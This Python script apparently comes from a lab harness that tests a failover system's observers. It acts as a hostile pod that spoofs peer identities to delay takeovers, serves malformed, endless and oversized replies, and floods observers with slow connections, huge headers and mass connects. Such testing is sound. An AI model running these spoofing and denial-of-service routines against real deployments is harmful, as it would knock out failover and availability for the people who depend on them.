"""
What an ordinary pod of the VPC does to the observers that it can reach: a script, run in the pod's network namespace.

    python attacker.py KIND SPEC

SPEC is JSON: `observers` (their addresses), `port`, `me` (the pod's address), and what the attacker knows of the
deployment, which is more than a pod can find out: `name`, `target`, `sees_up`, `holds`, `instances`.  It goes on until
SIGTERM, then finishes what is missing of its CONNECTS, and prints as JSON how often it used each means.

- `words`: it calls itself a peer, by made-up and by real ids, and says what would keep a standby from taking over.
- `answers`: it calls itself a peer; observers that ask it back get invalid answers: deep, endless, dripping, huge.
- `flood`: it asks in ways that cost the observers memory, threads, files or time.
"""

import itertools
import json
import os
import signal
import socket
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Mapping
from contextlib import closing, suppress
from typing import Any, NoReturn

PATIENCE = 2.0
SLOW_CONNECTIONS = 200
CONNECTS = 40_000
"""How many connections a flood opens and closes at least, to all observers together."""
MADE_UP = 1500
LONG_ID = "i-" + "0" * 60_000
HUGE = (b"X-Huge: " + b"y" * 65_000 + b"\r\n") * 99

Spec = Mapping[str, Any]
done: Counter[str] = Counter()
over = threading.Event()
"""Set by SIGTERM: all attacks without an end of their own stop."""
finite: list[threading.Thread] = []
"""The threads that are waited for then."""


def connect(spec: Spec, observer: str) -> socket.socket:
    """A connection to an observer."""
    return socket.create_connection((observer, spec["port"]), timeout=PATIENCE)


def ask(spec: Spec, observer: str, means: str, request: bytes) -> bytes:
    """Send ``request`` and read an answer; a failed try counts, too."""
    done[means] += 1
    with suppress(OSError), closing(connect(spec, observer)) as connection:
        connection.sendall(request)
        return connection.recv(65536)
    return b""


def question(asker: str, headers: bytes = b"") -> bytes:
    """The question of a peer that is in doubt and in a hurry."""
    return b"GET /v1/word?asker=%s&doubt=10.0.0.100&look=soon HTTP/1.1\r\n%s\r\n" % (asker.encode(), headers)


def serve(spec: Spec, answers: Callable[[socket.socket], None]) -> None:
    """Listen at this pod's address, and answer each connection by ``answers``."""
    listener = socket.create_server((spec["me"], spec["port"]), backlog=512)

    def converse(connection: socket.socket) -> None:
        with suppress(OSError), closing(connection):
            while connection.recv(65536):
                done["answered"] += 1
                answers(connection)

    while True:
        connection, _ = listener.accept()
        threading.Thread(target=converse, args=(connection,), daemon=True).start()


def http(body: bytes) -> bytes:
    """An HTTP answer with this body."""
    return b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)


def word(spec: Spec, instance_id: str, **changes: object) -> bytes:
    """A word (what an observer tells its peers) for which a standby would wait."""
    said = {
        "name": spec["name"],
        "instance_id": instance_id,
        "holds": {spec["target"]: {"attachment": "eni-attach-0", "problem": "", "leaving": ""}},
        "sees_up": spec["sees_up"],
        "free_slots": 9,
        "serving": spec["instances"],
        "leaving": False,
        "claiming": [spec["target"]],
        "peers": {},
        "sights": {},
        **changes,
    }
    return http(json.dumps(said).encode())


def words(spec: Spec) -> None:
    """One made-up peer whose id comes first, and which says all that delays a takeover."""
    ids = ("i-0", *spec["instances"])
    threading.Thread(target=serve, args=(spec, lambda c: c.sendall(word(spec, "i-0"))), daemon=True).start()
    while True:
        for observer, asker in itertools.product(spec["observers"], ids):
            ask(spec, observer, "words", question(asker))
        time.sleep(0.2)


def answers(spec: Spec) -> None:
    """Made-up peers, each of which answers badly in its own way, in turn."""

    def endless(connection: socket.socket) -> None:
        connection.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
        while True:
            connection.sendall(b" " * 65536)

    def dripping(connection: socket.socket) -> None:
        connection.sendall(b"HTTP/1.1 200 OK\r\n")
        while True:
            connection.sendall(b"X")
            time.sleep(0.1)

    bad: list[Callable[[socket.socket], None]] = [
        lambda c: c.sendall(word(spec, "i-0", peers={"i-1": "a b", "i-2": "localhost", "i-3": "[", "i-x": "a b"})),
        lambda c: c.sendall(http(b"[" * 200_000)),
        lambda c: c.sendall(word(spec, "i-0", peers={f"i-{n:x}": spec["me"] for n in range(1500)})),
        lambda c: c.sendall(b"HTTP/1.1 200 OK\r\n" + HUGE + b"\r\n"),
        lambda c: c.sendall(word(spec, "i-0", free_slots="9" * 5000)),
        endless,
        dripping,
    ]
    turns = itertools.cycle(bad)

    def next_one(connection: socket.socket) -> None:
        next(turns)(connection)

    threading.Thread(target=serve, args=(spec, next_one), daemon=True).start()
    while True:
        for observer, number in itertools.product(spec["observers"], range(8)):
            ask(spec, observer, "answers", question(f"i-{number}"))
        time.sleep(0.2)


def flood(spec: Spec) -> None:
    """All means at once, against all observers."""
    for observer in spec["observers"]:
        for means in (_ids, _long_ids, _headers, _slow):
            threading.Thread(target=means, args=(spec, observer), daemon=True).start()
        connecting = threading.Thread(target=_connects, args=(spec, observer), daemon=True)
        connecting.start()
        finite.append(connecting)
    threading.Event().wait()


def _ids(spec: Spec, observer: str) -> None:
    for number in range(MADE_UP):
        ask(spec, observer, "ids", question(f"i-{number:x}"))


def _long_ids(spec: Spec, observer: str) -> None:
    while not over.wait(0.05):
        ask(spec, observer, "long ids", question(f"{LONG_ID}{done['long ids']}"))


def _headers(spec: Spec, observer: str) -> None:
    def keep() -> None:
        while not over.wait(0.2):
            done["headers"] += 1
            with suppress(OSError), closing(connect(spec, observer)) as connection:
                connection.sendall(b"GET /v1/word HTTP/1.1\r\n" + HUGE)
                over.wait(30.0)

    for _ in range(17):
        threading.Thread(target=keep, daemon=True).start()


def _slow(spec: Spec, observer: str) -> None:
    kept: list[socket.socket] = []
    while not over.wait(0.3):
        while len(kept) < SLOW_CONNECTIONS:
            done["slow"] += 1
            try:
                kept.append(connect(spec, observer))
            except OSError:
                break
        alive = []
        for connection in kept:
            try:
                connection.sendall(b"G")
                alive.append(connection)
            except OSError:
                connection.close()
        kept = alive


def _connects(spec: Spec, observer: str) -> None:
    """Connect until all observers together have had CONNECTS: if one is dead by now, the others get its share."""
    while done["connects"] < CONNECTS:
        with suppress(OSError):
            connect(spec, observer).close()
            done["connects"] += 1


def main(kind: str, spec: Spec) -> None:
    """Attack until SIGTERM."""

    def end(_number: int, _frame: object) -> NoReturn:
        over.set()
        for thread in finite:
            thread.join()
        print(json.dumps(done), flush=True)
        os._exit(0)

    signal.signal(signal.SIGTERM, end)
    # The lab shares two cores: processor time that an attacker takes from others would say nothing about the observers.
    os.nice(15)
    {"words": words, "answers": answers, "flood": flood}[kind](spec)


if __name__ == "__main__":
    main(sys.argv[1], json.loads(sys.argv[2]))
